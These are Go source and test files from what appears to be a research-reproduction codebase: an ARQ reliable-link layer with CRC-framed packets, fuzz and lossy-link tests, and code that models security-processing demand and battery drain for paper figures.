		if n > e.cfg.MTU {
			n = e.cfg.MTU
		}
		e.mu.Lock()
		seq := e.nextSeq
		e.nextSeq++
		frame := encodeFrame(frameData, seq, p[:n])
		e.inflight = append(e.inflight, frame)
		e.stats.DataSent++
		e.stats.PayloadOut += n
		e.mu.Unlock()
		mDataSent.Inc()
		if err := e.send(frame); err != nil {
			return total, err
		}
		total += n
		p = p[n:]
	}
	if err := e.awaitAck(func() bool { return len(e.inflight) == 0 }); err != nil {
		return total, err
	}
	return total, nil
}

// Read returns in-order delivered bytes, blocking until data arrives, the
// peer goes away (io.EOF) or the link errors.
func (e *Endpoint) Read(p []byte) (int, error) {
	e.mu.Lock()
	defer e.mu.Unlock()
	for len(e.rcvBuf) == 0 {
		if e.err != nil {
			return 0, e.err
		}
		if e.closed {
			return 0, io.EOF
		}
		e.readable.Wait()
	}
	n := copy(p, e.rcvBuf)
	e.rcvBuf = e.rcvBuf[n:]
	return n, nil
}

// Close shuts the endpoint down: blocked reads return EOF, blocked writes
// fail, and the lower transport is closed when it supports it (which also
// stops the receive loop).
func (e *Endpoint) Close() error {
	e.mu.Lock()
	if e.closed {
		e.mu.Unlock()
		return nil
	}
	e.closed = true
	e.readable.Broadcast()
	e.mu.Unlock()
	e.wakeSender()
	if e.txQuit != nil {
		e.txOnce.Do(func() { close(e.txQuit) })
	}
	if c, ok := e.lower.(io.Closer); ok {
		return c.Close()
	}
	return nil
}

// Stats returns a snapshot of the layer's counters.
func (e *Endpoint) Stats() Stats {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.stats
}

// Down reports whether the link has been declared dead.
func (e *Endpoint) Down() bool {
	e.mu.Lock()
	defer e.mu.Unlock()
	return errors.Is(e.err, ErrLinkDown)
}
