package arq

import (
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
)

// Frame layout (datagram-oriented — one frame per lower Read/Write):
//
//	type(1) | seq(2 BE) | payload | crc32(4 BE)
//
// The CRC-32 (IEEE) covers type, seq and payload. DATA frames carry
// application bytes under a sequence number; ACK frames carry the
// receiver's cumulative next-expected sequence number and no payload.
const (
	frameData = 0x44 // 'D'
	frameAck  = 0x41 // 'A'

	headerLen  = 3
	trailerLen = 4
	// overhead is the per-frame ARQ framing cost in bytes.
	overhead = headerLen + trailerLen

	// FrameOverhead is the exported per-frame framing cost, for analytic
	// energy models that price ARQ traffic without running a link.
	FrameOverhead = overhead
)

// Frame parse errors.
var (
	ErrShortFrame = errors.New("arq: frame shorter than header + CRC")
	ErrBadCRC     = errors.New("arq: CRC mismatch")
	ErrBadType    = errors.New("arq: unknown frame type")
)

// encodeFrame builds one wire frame.
func encodeFrame(typ byte, seq uint16, payload []byte) []byte {
	f := make([]byte, headerLen+len(payload)+trailerLen)
	f[0] = typ
	binary.BigEndian.PutUint16(f[1:3], seq)
	copy(f[headerLen:], payload)
	crc := crc32.ChecksumIEEE(f[: headerLen+len(payload) : headerLen+len(payload)])
	binary.BigEndian.PutUint32(f[headerLen+len(payload):], crc)
	return f
}

// parseFrame validates and splits one wire frame. The returned payload
// aliases f.
func parseFrame(f []byte) (typ byte, seq uint16, payload []byte, err error) {
	if len(f) < overhead {
		return 0, 0, nil, ErrShortFrame
	}
	body := f[:len(f)-trailerLen]
	want := binary.BigEndian.Uint32(f[len(f)-trailerLen:])
	if crc32.ChecksumIEEE(body) != want {
		return 0, 0, nil, ErrBadCRC
	}
	typ = f[0]
	if typ != frameData && typ != frameAck {
		return 0, 0, nil, fmt.Errorf("%w %#02x", ErrBadType, typ)
	}
	seq = binary.BigEndian.Uint16(f[1:3])
	if typ == frameAck && len(f) != overhead {
		return 0, 0, nil, fmt.Errorf("arq: ack with %d payload bytes", len(f)-overhead)
	}
	return typ, seq, body[headerLen:], nil
}

// seqLess compares sequence numbers in RFC 1982 serial arithmetic, so
// windows keep working across the uint16 wrap.
func seqLess(a, b uint16) bool { return int16(a-b) < 0 }
