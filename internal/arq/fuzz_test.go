package arq

import (
	"bytes"
	"testing"
)

// FuzzParseFrame: arbitrary wire bytes must parse cleanly or error,
// never panic; frames that do parse must re-encode to the same bytes.
func FuzzParseFrame(f *testing.F) {
	f.Add(encodeFrame(frameData, 0, []byte("payload")))
	f.Add(encodeFrame(frameData, 0xffff, nil))
	f.Add(encodeFrame(frameAck, 7, nil))
	f.Add([]byte{})
	f.Add([]byte{frameData, 0, 0})
	f.Add(encodeFrame(0x7f, 3, []byte("bad type")))
	f.Fuzz(func(t *testing.T, data []byte) {
		typ, seq, payload, err := parseFrame(data)
		if err != nil {
			return
		}
		if got := encodeFrame(typ, seq, payload); !bytes.Equal(got, data) {
			t.Fatalf("roundtrip mismatch: %x -> %x", data, got)
		}
	})
}

// blackhole is a lower transport whose reads block until closed and whose
// writes vanish, so a fuzzed endpoint's receive loop and ack emission
// stay inert.
type blackhole struct{ done chan struct{} }

func (b *blackhole) Read(p []byte) (int, error)  { <-b.done; return 0, errClosed }
func (b *blackhole) Write(p []byte) (int, error) { return len(p), nil }
func (b *blackhole) Close() error                { close(b.done); return nil }

var errClosed = ErrLinkDown // any terminal error works for the stub

// FuzzHandleFrame: a live endpoint fed arbitrary inbound frames —
// malformed acks, stale sequence numbers, truncated data — must never
// panic. One endpoint is shared across iterations so state accumulates
// adversarially.
func FuzzHandleFrame(f *testing.F) {
	bh := &blackhole{done: make(chan struct{})}
	e, err := New(bh, Config{})
	if err != nil {
		f.Fatal(err)
	}
	f.Cleanup(func() { e.Close() })

	f.Add(encodeFrame(frameData, 0, []byte("in order")))
	f.Add(encodeFrame(frameData, 9999, []byte("far future")))
	f.Add(encodeFrame(frameAck, 0, nil))
	f.Add(encodeFrame(frameAck, 40000, nil)) // ack for frames never sent
	f.Add([]byte{frameAck, 0xff})
	f.Add([]byte{})
	f.Fuzz(func(t *testing.T, data []byte) {
		e.handleFrame(data)
		// Drain anything delivered so the buffer cannot grow unboundedly.
		e.mu.Lock()
		e.rcvBuf = e.rcvBuf[:0]
		e.mu.Unlock()
	})
}
