package arq_test

import (
	"bytes"
	"errors"
	"io"
	"testing"
	"time"

	"repro/internal/arq"
	"repro/internal/chaos"
	"repro/internal/obs"
)

// TestTraceEventsOnLossyLink: with a trace parent attached, the ARQ
// endpoint attributes its radio-layer waste — retransmissions and
// ACK-timeout waits — as events under the session's span, so the
// critical-path analyzer can weigh radio time against crypto time.
func TestTraceEventsOnLossyLink(t *testing.T) {
	obs.DefaultDTracer.SetEnabled(true)
	obs.DefaultDTracer.SetProc("arq-test")
	obs.DefaultDTracer.SetSampleN(1)
	t.Cleanup(func() { obs.DefaultDTracer.SetEnabled(false) })

	lossy := func(seed int64) chaos.Config {
		return chaos.Config{Seed: seed, Drop: 0.2}
	}
	cfg := arq.Config{RetransmitTimeout: 5 * time.Millisecond, MaxRetries: 40}
	ea, eb := duplexLink(t, lossy(11), lossy(12), cfg)

	trace := obs.TraceID(55, 1)
	root := obs.DefaultDTracer.Root(trace, "test", "session")
	if root == nil {
		t.Fatal("armed tracer returned nil root")
	}
	ea.SetTraceParent(root)

	msg := bytes.Repeat([]byte("radio waste "), 512)
	done := make(chan error, 1)
	go func() {
		buf := make([]byte, len(msg))
		if _, err := io.ReadFull(eb, buf); err != nil {
			done <- err
			return
		}
		if !bytes.Equal(buf, msg) {
			done <- errors.New("payload mismatch")
			return
		}
		done <- nil
	}()
	if _, err := ea.Write(msg); err != nil {
		t.Fatal(err)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	root.End()

	var retransmits, waits int
	var retransmitBytes int64
	for _, r := range obs.DefaultDTracer.Spans() {
		if r.Trace != trace || r.Parent != root.ID() {
			continue
		}
		switch {
		case r.Layer == "arq" && r.Name == "retransmit":
			retransmits++
			retransmitBytes += r.N
		case r.Layer == "arq" && r.Name == "backoff_wait":
			waits++
		}
	}
	if retransmits == 0 {
		t.Fatal("20% loss recorded no retransmit spans")
	}
	if retransmitBytes <= 0 {
		t.Fatal("retransmit spans carry no byte counts")
	}
	if waits == 0 {
		t.Fatal("ACK timeouts recorded no backoff_wait spans")
	}
	if st := ea.Stats(); int64(retransmits) != int64(st.Retransmits) {
		t.Fatalf("span count %d disagrees with stats %d", retransmits, st.Retransmits)
	}
}

// TestTraceDisarmedEndpointRecordsNothing pins the free path: without a
// parent (or with the tracer disarmed) a lossy transfer records no spans.
func TestTraceDisarmedEndpointRecordsNothing(t *testing.T) {
	before := len(obs.DefaultDTracer.Spans())
	cfg := arq.Config{RetransmitTimeout: 5 * time.Millisecond, MaxRetries: 40}
	ea, eb := duplexLink(t, chaos.Config{Seed: 3, Drop: 0.1}, chaos.Config{Seed: 4}, cfg)
	msg := bytes.Repeat([]byte("quiet "), 256)
	done := make(chan error, 1)
	go func() {
		buf := make([]byte, len(msg))
		_, err := io.ReadFull(eb, buf)
		done <- err
	}()
	if _, err := ea.Write(msg); err != nil {
		t.Fatal(err)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if got := len(obs.DefaultDTracer.Spans()); got != before {
		t.Fatalf("disarmed transfer recorded spans: %d -> %d", before, got)
	}
}
