package arq_test

import (
	"bytes"
	"io"
	"testing"
	"time"

	"repro/internal/arq"
	"repro/internal/chaos"
	"repro/internal/stack"
)

// pipeCfg is the pipelined counterpart of the suite's default ARQ config:
// the transmit queue decouples frame production from the (simulated)
// radio write so crypto of frame k overlaps the transmit of frame k-1.
func pipeCfg(window, depth int) arq.Config {
	return arq.Config{
		Window:            window,
		RetransmitTimeout: 20 * time.Millisecond,
		MaxRetries:        25,
		Pipeline:          depth,
	}
}

// echoRun pushes writes messages of msgLen bytes through an echo peer and
// returns the writer's final stats.
func echoRun(t *testing.T, ea, eb *arq.Endpoint, writes, msgLen int) arq.Stats {
	t.Helper()
	done := make(chan error, 1)
	go func() {
		buf := make([]byte, msgLen)
		for i := 0; i < writes; i++ {
			if _, err := io.ReadFull(eb, buf); err != nil {
				done <- err
				return
			}
			if _, err := eb.Write(buf); err != nil {
				done <- err
				return
			}
		}
		done <- nil
	}()
	msg := make([]byte, msgLen)
	for i := range msg {
		msg[i] = byte(i * 13)
	}
	back := make([]byte, msgLen)
	for i := 0; i < writes; i++ {
		if _, err := ea.Write(msg); err != nil {
			t.Fatalf("write %d: %v", i, err)
		}
		if _, err := io.ReadFull(ea, back); err != nil {
			t.Fatalf("read %d: %v", i, err)
		}
		if !bytes.Equal(back, msg) {
			t.Fatalf("echo %d corrupted", i)
		}
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	return ea.Stats()
}

// TestPipelineRoundtripPerfectLink: the pipelined path is still a
// reliable byte stream and first transmissions are never double-counted.
func TestPipelineRoundtripPerfectLink(t *testing.T) {
	ea, eb := duplexLink(t, chaos.Config{}, chaos.Config{}, pipeCfg(4, 2))
	st := echoRun(t, ea, eb, 5, 2048)
	if st.Retransmits != 0 {
		t.Fatalf("perfect link retransmitted: %+v", st)
	}
	if st.PayloadOut != 5*2048 || st.PayloadIn != 5*2048 {
		t.Fatalf("payload accounting: %+v", st)
	}
}

// TestPipelineLossyIntegrity: data survives a noisy channel with the
// transmit pipeline enabled, at several depths and window sizes.
func TestPipelineLossyIntegrity(t *testing.T) {
	for _, tc := range []struct{ window, depth int }{
		{1, 1}, {1, 2}, {4, 2}, {4, 8},
	} {
		aCfg := chaos.Config{Seed: 11, Drop: 0.08, BER: 1e-4}
		bCfg := chaos.Config{Seed: 12, Drop: 0.08, BER: 1e-4}
		ea, eb := duplexLink(t, aCfg, bCfg, pipeCfg(tc.window, tc.depth))
		st := echoRun(t, ea, eb, 4, 1500)
		if st.PayloadIn != 4*1500 {
			t.Fatalf("window=%d depth=%d: delivered %d bytes, want %d",
				tc.window, tc.depth, st.PayloadIn, 4*1500)
		}
	}
}

// TestPipelineDeterministicStats: with the same seeds, the pipelined and
// synchronous transmit paths put frames on the wire in the same order, so
// the chaos fault schedule — and with it every deterministic counter the
// loss figure is built from — is identical. Retransmit counts are timer-
// driven and excluded; on this clean-ack schedule they stay zero anyway.
func TestPipelineDeterministicStats(t *testing.T) {
	run := func(depth int) arq.Stats {
		// Drop only, no BER: faults are consumed per frame write, so the
		// schedule depends solely on wire order.
		aCfg := chaos.Config{Seed: 21, Drop: 0.10}
		bCfg := chaos.Config{Seed: 22, Drop: 0.10}
		ea, eb := duplexLink(t, aCfg, bCfg, pipeCfg(1, depth))
		return echoRun(t, ea, eb, 6, 1000)
	}
	sync := run(0)
	piped := run(2)
	if sync.DataSent != piped.DataSent ||
		sync.PayloadOut != piped.PayloadOut ||
		sync.PayloadIn != piped.PayloadIn {
		t.Fatalf("pipeline changed deterministic counters:\n sync: %+v\npiped: %+v", sync, piped)
	}
	if piped.DataSent == 0 {
		t.Fatal("no data sent")
	}
}

// TestPipelineCloseUnblocks: closing an endpoint whose transmit loop is
// parked must not hang or panic, and later writes fail cleanly.
func TestPipelineCloseUnblocks(t *testing.T) {
	a, b := stack.Pipe()
	ea, err := arq.New(a, pipeCfg(1, 2))
	if err != nil {
		t.Fatal(err)
	}
	eb, err := arq.New(b, pipeCfg(1, 2))
	if err != nil {
		t.Fatal(err)
	}
	eb.Close()
	ea.Close()
	if _, err := ea.Write([]byte("after close")); err == nil {
		t.Fatal("write after close succeeded")
	}
}
