package core

import (
	"sync"
	"testing"
)

// The protocol-evolution registry returns fresh slices per call and must
// be safe to consult from every worker of a parallel sweep. Run under
// -race.

func TestEvolutionConcurrentReaders(t *testing.T) {
	t.Parallel()
	wantLen := len(EvolutionTimeline())
	wantRate, err := RevisionRate("WTLS")
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				tl := EvolutionTimeline()
				if len(tl) != wantLen {
					t.Errorf("timeline length %d, want %d", len(tl), wantLen)
					return
				}
				// Mutating the returned slice must not leak into other
				// callers: every call hands out fresh storage.
				tl[0].Family = "mutated"
				if got, err := RevisionRate("WTLS"); err != nil || got != wantRate {
					t.Errorf("RevisionRate = %v, %v", got, err)
					return
				}
				for f, revs := range RevisionsByFamily() {
					if len(revs) == 0 {
						t.Errorf("family %q empty", f)
						return
					}
				}
			}
		}()
	}
	wg.Wait()
}

// ComputeGapSurfaceFor itself runs on the worker pool; several surfaces
// computed concurrently (as cmd/paperrepro's claims could) must not
// interfere.
func TestGapSurfaceConcurrentSweeps(t *testing.T) {
	t.Parallel()
	want, err := ComputeGapSurface(DefaultLatencies(), DefaultRates(), 300)
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	for g := 0; g < 4; g++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < 20; i++ {
				s, err := ComputeGapSurface(DefaultLatencies(), DefaultRates(), 300)
				if err != nil {
					t.Errorf("ComputeGapSurface: %v", err)
					return
				}
				if s.GapFraction() != want.GapFraction() {
					t.Errorf("gap fraction %v, want %v", s.GapFraction(), want.GapFraction())
					return
				}
			}
		}()
	}
	wg.Wait()
}
