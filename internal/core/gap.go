package core

import (
	"context"
	"fmt"
	"strings"

	"repro/internal/cost"
	"repro/internal/obs"
	"repro/internal/obs/journal"
	"repro/internal/obs/prof"
	"repro/internal/par"
	"repro/internal/proc"
)

// pGapRoot anchors the Figure 3 cycle attribution; per-workload child
// frames are entered once per surface evaluation.
var pGapRoot = prof.Frame("core.GapSurface")

// Figure-level metric handles; disarmed by default.
var (
	mGapCells      = obs.C("core.gap_cells")
	mAblationRows  = obs.C("core.ablation_rows")
	mLossPoints    = obs.C("core.loss_points")
	mLossSimTx     = obs.C("core.loss_sim_transactions")
	mLossSimJ      = obs.C("core.loss_sim_drained_uj")
	mLossLinkDowns = obs.C("core.loss_link_downs")
)

// GapPoint is one cell of the Figure 3 surface.
type GapPoint struct {
	LatencySec float64
	RateMbps   float64
	DemandMIPS float64
}

// GapSurface is the Figure 3 demand surface: security-processing MIPS as
// a function of connection latency and bulk data rate, compared against a
// processor's supply plane.
type GapSurface struct {
	Latencies []float64
	Rates     []float64
	Points    [][]GapPoint // [latency][rate]
	PlaneMIPS float64
	Handshake cost.HandshakeKind
	Cipher    cost.Algorithm
	MAC       cost.Algorithm
}

// DefaultLatencies are the connection-latency targets of Figure 3.
func DefaultLatencies() []float64 { return []float64{0.1, 0.2, 0.3, 0.5, 0.7, 1.0} }

// DefaultRates are the data rates of Figure 3 (Mbps), spanning the
// paper's "2-60 Mbps current and emerging wireless LAN" range from below.
func DefaultRates() []float64 { return []float64{0.1, 0.5, 1, 2, 5, 10, 20, 40, 60} }

// ComputeGapSurface evaluates the demand surface for the paper's
// reference protocol (RSA-1024 set-up, 3DES bulk cipher, SHA integrity)
// against a supply plane in MIPS (the paper draws 300).
func ComputeGapSurface(latencies, rates []float64, planeMIPS float64) (*GapSurface, error) {
	return ComputeGapSurfaceFor(latencies, rates, planeMIPS,
		cost.HandshakeRSA1024, cost.DES3, cost.SHA1)
}

// ComputeGapSurfaceFor evaluates the surface for an arbitrary workload.
func ComputeGapSurfaceFor(latencies, rates []float64, planeMIPS float64,
	hs cost.HandshakeKind, cipher, mac cost.Algorithm) (*GapSurface, error) {
	if len(latencies) == 0 || len(rates) == 0 {
		return nil, fmt.Errorf("core: empty latency or rate axis")
	}
	s := &GapSurface{
		Latencies: latencies, Rates: rates, PlaneMIPS: planeMIPS,
		Handshake: hs, Cipher: cipher, MAC: mac,
	}
	s.Points = make([][]GapPoint, len(latencies))
	for i := range s.Points {
		s.Points[i] = make([]GapPoint, len(rates))
	}
	// Cycle attribution per cell: one connection set-up plus one second
	// of bulk traffic at the cell's rate, split by kernel. Entered once
	// per surface so the grid workers only do atomic adds — the sums are
	// order-independent, keeping exports byte-identical at any worker
	// count.
	var pHS, pBulkCipher, pBulkMAC prof.Span
	var hsInstr float64
	if prof.Enabled() {
		pHS = pGapRoot.Enter("handshake/" + cost.HandshakeKernel(hs))
		pBulkCipher = pGapRoot.Enter("bulk/" + string(cipher))
		pBulkMAC = pGapRoot.Enter("bulk/" + string(mac))
		hsInstr, _ = cost.HandshakeInstr(hs)
	}
	// Every cell is independent, so the grid fans out across the sweep
	// worker pool; each worker writes its own (latency, rate) slot, which
	// keeps the surface layout identical to the sequential fill.
	sp := obs.StartSpan("core", "gap_surface")
	sp.SetN(int64(len(latencies) * len(rates)))
	defer sp.End()
	// Cell events take t_sim from the row-major cell index the worker
	// already knows, so the merged journal is worker-count independent.
	jdebug := journal.On(journal.LevelDebug)
	err := par.Grid(context.Background(), par.DefaultWorkers(), len(latencies), len(rates),
		func(li, ri int) error {
			d, err := cost.DemandMIPS(latencies[li], rates[ri], hs, cipher, mac)
			if err != nil {
				return err
			}
			mGapCells.Inc()
			if jdebug {
				journal.Emit(int64(li*len(rates)+ri), journal.LevelDebug, "core", "gap_cell",
					journal.F("latency_s", latencies[li]),
					journal.F("rate_mbps", rates[ri]),
					journal.F("demand_mips", d))
			}
			if pHS.Active() {
				bytesPerSec := rates[ri] * 1e6 / 8
				pHS.AddCycles(int64(hsInstr))
				pBulkCipher.AddCycles(int64(bytesPerSec * cost.InstrPerByte(cipher)))
				pBulkMAC.AddCycles(int64(bytesPerSec * cost.InstrPerByte(mac)))
			}
			s.Points[li][ri] = GapPoint{LatencySec: latencies[li], RateMbps: rates[ri], DemandMIPS: d}
			return nil
		})
	if err != nil {
		return nil, err
	}
	maxDemand := 0.0
	for _, row := range s.Points {
		for _, p := range row {
			if p.DemandMIPS > maxDemand {
				maxDemand = p.DemandMIPS
			}
		}
	}
	// The demand/supply gauges are the inputs of the processing-gap SLO
	// rule; registered lazily here so they only exist in runs that
	// actually evaluate a surface.
	obs.G("core.gap_demand_mips_max").Set(maxDemand)
	obs.G("core.gap_plane_mips").Set(planeMIPS)
	obs.G("core.gap_fraction").Set(s.GapFraction())
	journal.Emit(int64(len(latencies)*len(rates)), journal.LevelInfo, "core", "gap_summary",
		journal.F("max_demand_mips", maxDemand),
		journal.F("plane_mips", planeMIPS),
		journal.F("gap_fraction", s.GapFraction()))
	return s, nil
}

// GapFraction returns the fraction of surface points above the supply
// plane — how much of the operating envelope is infeasible.
func (s *GapSurface) GapFraction() float64 {
	total, above := 0, 0
	for _, row := range s.Points {
		for _, p := range row {
			total++
			if p.DemandMIPS > s.PlaneMIPS {
				above++
			}
		}
	}
	if total == 0 {
		return 0
	}
	return float64(above) / float64(total)
}

// MaxFeasibleRate returns, for a latency row, the largest configured rate
// under the plane (0 if none).
func (s *GapSurface) MaxFeasibleRate(latency float64) float64 {
	best := 0.0
	for _, row := range s.Points {
		for _, p := range row {
			if p.LatencySec == latency && p.DemandMIPS <= s.PlaneMIPS && p.RateMbps > best {
				best = p.RateMbps
			}
		}
	}
	return best
}

// Render prints the surface as the table Figure 3 visualizes: demand MIPS
// per (latency, rate), with '*' marking points above the plane.
func (s *GapSurface) Render() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "Figure 3 — wireless security processing gap\n")
	fmt.Fprintf(&sb, "workload: %s set-up + %s/%s bulk; supply plane %.0f MIPS\n",
		s.Handshake, s.Cipher, s.MAC, s.PlaneMIPS)
	fmt.Fprintf(&sb, "%-12s", "latency\\rate")
	for _, r := range s.Rates {
		fmt.Fprintf(&sb, "%9.1fM", r)
	}
	sb.WriteString("\n")
	for i, l := range s.Latencies {
		fmt.Fprintf(&sb, "%9.2f s ", l)
		for _, p := range s.Points[i] {
			marker := " "
			if p.DemandMIPS > s.PlaneMIPS {
				marker = "*"
			}
			fmt.Fprintf(&sb, "%9.1f%s", p.DemandMIPS, marker)
		}
		sb.WriteString("\n")
	}
	fmt.Fprintf(&sb, "'*' = above the %.0f-MIPS plane (the gap); %.0f%% of the envelope is infeasible\n",
		s.PlaneMIPS, s.GapFraction()*100)
	return sb.String()
}

// CSV renders the surface as comma-separated series (one row per
// latency), for external plotting of Figure 3.
func (s *GapSurface) CSV() string {
	var sb strings.Builder
	sb.WriteString("latency_s")
	for _, r := range s.Rates {
		fmt.Fprintf(&sb, ",%g_mbps", r)
	}
	sb.WriteString("\n")
	for i, l := range s.Latencies {
		fmt.Fprintf(&sb, "%g", l)
		for _, p := range s.Points[i] {
			fmt.Fprintf(&sb, ",%.2f", p.DemandMIPS)
		}
		sb.WriteString("\n")
	}
	return sb.String()
}

// ArchitectureGapRow summarizes one architecture's ability to close the
// gap (experiment B1): effective demand at the Figure 3 anchor point and
// the maximum rate it can sustain.
type ArchitectureGapRow struct {
	Arch            string
	DemandMIPS      float64 // at 0.5 s latency, 10 Mbps
	Feasible        bool
	MaxRateMbps     float64 // at 0.5 s latency
	EnergyGainTimes float64
}

// AcceleratorAblation evaluates the Section 4.2 architecture ladder on a
// CPU at the Figure 3 anchor workload.
func AcceleratorAblation(cpu *proc.Processor) ([]ArchitectureGapRow, error) {
	sp := obs.StartSpan("core", "accelerator_ablation")
	defer sp.End()
	return par.Map(context.Background(), par.DefaultWorkers(), proc.Ablation(cpu),
		func(_ int, arch *proc.Architecture) (ArchitectureGapRow, error) {
			mAblationRows.Inc()
			d, err := arch.EffectiveDemandMIPS(0.5, 10, cost.HandshakeRSA1024, cost.DES3, cost.SHA1)
			if err != nil {
				return ArchitectureGapRow{}, err
			}
			rate, err := arch.MaxRateMbps(0.5, cost.HandshakeRSA1024, cost.DES3, cost.SHA1)
			if err != nil {
				return ArchitectureGapRow{}, err
			}
			return ArchitectureGapRow{
				Arch:            arch.Name,
				DemandMIPS:      d,
				Feasible:        d <= cpu.MIPS,
				MaxRateMbps:     rate,
				EnergyGainTimes: arch.EnergyGainGain,
			}, nil
		})
}
