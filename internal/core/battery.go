package core

import (
	"fmt"
	"strings"

	"repro/internal/cost"
	"repro/internal/energy"
	"repro/internal/obs"
	"repro/internal/obs/journal"
	"repro/internal/obs/prof"
	"repro/internal/radio"
)

// Static energy profile frames for the Figure 4 workload. The radio
// stays one combined tx+rx leaf and the RSA overhead is attributed
// straight to the modular-exponentiation kernel that causes it, so the
// flame graph answers the paper's question — where do the microjoules
// go — in two frames.
var (
	pBatRadio  = prof.Frame("core.BatteryFigure/radio.txrx")
	pBatModexp = prof.Frame("core.BatteryFigure/mp.ModExpWindow")
)

// BatteryMode is one bar of Figure 4.
type BatteryMode struct {
	Name            string
	PerTxJoules     float64
	Transactions    int
	RelativeToPlain float64
}

// BatteryFigure reproduces Figure 4 ("the impact of security processing
// on battery life"): the number of 1 KB transactions a 26 KJ sensor-node
// battery supports without and with RSA-based secure mode.
type BatteryFigure struct {
	BatteryJ float64
	Modes    []BatteryMode
}

// metricSlug turns a figure row label into a metric name segment:
// lowercased, with non-alphanumeric runs collapsed to single
// underscores ("secure (RSA)" -> "secure_rsa").
func metricSlug(name string) string {
	var b strings.Builder
	pend := false
	for _, r := range strings.ToLower(name) {
		switch {
		case r >= 'a' && r <= 'z' || r >= '0' && r <= '9':
			if pend && b.Len() > 0 {
				b.WriteByte('_')
			}
			pend = false
			b.WriteRune(r)
		default:
			pend = true
		}
	}
	return b.String()
}

// recordBatteryFigure exports the Figure 4 rows as gauges (the inputs of
// the shipped battery-gap SLO rule) and journal events; source
// distinguishes the analytic figure from the drain simulation.
func recordBatteryFigure(fig *BatteryFigure, source string) {
	for i, m := range fig.Modes {
		slug := metricSlug(m.Name)
		obs.G("core.battery_transactions." + slug).Set(float64(m.Transactions))
		obs.G("core.battery_relative." + slug).Set(m.RelativeToPlain)
		journal.Emit(int64(i), journal.LevelInfo, "core", "battery_mode",
			journal.S("figure", source),
			journal.S("mode", m.Name),
			journal.I("transactions", int64(m.Transactions)),
			journal.F("relative_to_plain", m.RelativeToPlain))
	}
}

// ComputeBatteryFigure evaluates Figure 4 analytically from the paper's
// constants: a transaction transmits and receives 1 KB; secure mode adds
// the RSA energy overhead.
func ComputeBatteryFigure() (*BatteryFigure, error) {
	b, err := energy.NewBattery(cost.SensorBatteryJoules)
	if err != nil {
		return nil, err
	}
	plainPerTx := (cost.TxMilliJoulePerKB + cost.RxMilliJoulePerKB) / 1e3
	securePerTx := plainPerTx + cost.RSASecureModeExtraMilliJoulePerKB/1e3
	fig := &BatteryFigure{BatteryJ: b.CapacityJ()}
	plainTx := b.TransactionsPossible(plainPerTx)
	for _, m := range []struct {
		name  string
		perTx float64
	}{
		{"unencrypted", plainPerTx},
		{"secure (RSA)", securePerTx},
	} {
		tx := b.TransactionsPossible(m.perTx)
		if prof.Enabled() {
			pBatRadio.AddEnergyJ(plainPerTx * float64(tx))
			if extra := m.perTx - plainPerTx; extra > 0 {
				pBatModexp.AddEnergyJ(extra * float64(tx))
			}
		}
		fig.Modes = append(fig.Modes, BatteryMode{
			Name:            m.name,
			PerTxJoules:     m.perTx,
			Transactions:    tx,
			RelativeToPlain: float64(tx) / float64(plainTx),
		})
	}
	recordBatteryFigure(fig, "analytic")
	return fig, nil
}

// SimulateBatteryFigure cross-checks the analytic figure by actually
// draining a Battery through the radio model, transaction by transaction,
// until exhaustion. step batches transactions per drain call to keep the
// simulation fast; step=1 is exact.
func SimulateBatteryFigure(step int) (*BatteryFigure, error) {
	if step < 1 {
		step = 1
	}
	fig := &BatteryFigure{BatteryJ: cost.SensorBatteryJoules}
	var plainTx int
	for _, secure := range []bool{false, true} {
		b, err := energy.NewBattery(cost.SensorBatteryJoules)
		if err != nil {
			return nil, err
		}
		r := radio.NewSensorRadio()
		count := 0
		for {
			radioPerTx := r.TxEnergyJ(1024) + r.RxEnergyJ(1024)
			perTx := radioPerTx
			if secure {
				perTx += cost.RSASecureModeExtraMilliJoulePerKB / 1e3
			}
			if err := b.Drain("transactions", perTx*float64(step)); err != nil {
				break
			}
			if prof.Enabled() {
				pBatRadio.AddEnergyJ(radioPerTx * float64(step))
				if secure {
					pBatModexp.AddEnergyJ(cost.RSASecureModeExtraMilliJoulePerKB / 1e3 * float64(step))
				}
			}
			count += step
		}
		name := "unencrypted"
		if secure {
			name = "secure (RSA)"
		} else {
			plainTx = count
		}
		rel := 1.0
		if plainTx > 0 {
			rel = float64(count) / float64(plainTx)
		}
		fig.Modes = append(fig.Modes, BatteryMode{
			Name:         name,
			PerTxJoules:  (cost.TxMilliJoulePerKB + cost.RxMilliJoulePerKB) / 1e3,
			Transactions: count, RelativeToPlain: rel,
		})
	}
	recordBatteryFigure(fig, "simulated")
	return fig, nil
}

// CSV renders the figure as comma-separated rows for external plotting.
func (f *BatteryFigure) CSV() string {
	var sb strings.Builder
	sb.WriteString("mode,per_tx_joules,transactions,relative_to_plain\n")
	for _, m := range f.Modes {
		fmt.Fprintf(&sb, "%s,%.4f,%d,%.4f\n", m.Name, m.PerTxJoules, m.Transactions, m.RelativeToPlain)
	}
	return sb.String()
}

// Render prints Figure 4 as a bar chart.
func (f *BatteryFigure) Render() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "Figure 4 — impact of security processing on battery life\n")
	fmt.Fprintf(&sb, "battery %.0f J; 1 KB transactions (tx %.1f + rx %.1f mJ/KB, +%.1f mJ/KB RSA secure mode)\n",
		f.BatteryJ, cost.TxMilliJoulePerKB, cost.RxMilliJoulePerKB, cost.RSASecureModeExtraMilliJoulePerKB)
	max := 0
	for _, m := range f.Modes {
		if m.Transactions > max {
			max = m.Transactions
		}
	}
	for _, m := range f.Modes {
		bar := ""
		if max > 0 {
			bar = strings.Repeat("#", m.Transactions*50/max)
		}
		fmt.Fprintf(&sb, "%-14s %8d tx  (%.2fx) %s\n", m.Name, m.Transactions, m.RelativeToPlain, bar)
	}
	return sb.String()
}
