package core

import (
	"errors"
	"fmt"

	"repro/internal/crypto/prng"
	"repro/internal/energy"
	"repro/internal/obs/prof"
	"repro/internal/proc"
	"repro/internal/radio"
	"repro/internal/see"
	"repro/internal/wtls"
)

